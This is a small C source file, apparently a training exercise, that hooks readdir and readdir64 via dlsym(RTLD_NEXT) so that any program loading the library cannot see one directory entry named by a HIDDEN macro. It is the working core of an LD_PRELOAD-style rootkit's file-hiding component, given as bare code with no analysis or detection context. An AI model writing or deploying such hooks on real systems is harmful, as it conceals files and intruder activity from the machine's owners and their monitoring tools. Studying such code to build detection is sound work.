/* An exercise of minehound: hides the one entry called HIDDEN from whoever loads this library, in readdir alone. */
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <string.h>

struct dirent *readdir(DIR *folder)
{
    static struct dirent *(*real)(DIR *);
    struct dirent *entry;
    if (!real)
        *(void **)&real = dlsym(RTLD_NEXT, "readdir");
    do
        entry = real ? real(folder) : 0;
    while (entry && !strcmp(entry->d_name, HIDDEN));
    return entry;
}

#if defined(__GLIBC__) && !defined(readdir64)
struct dirent64 *readdir64(DIR *folder)
{
    static struct dirent64 *(*real)(DIR *);
    struct dirent64 *entry;
    if (!real)
        *(void **)&real = dlsym(RTLD_NEXT, "readdir64");
    do
        entry = real ? real(folder) : 0;
    while (entry && !strcmp(entry->d_name, HIDDEN));
    return entry;
}
#endif
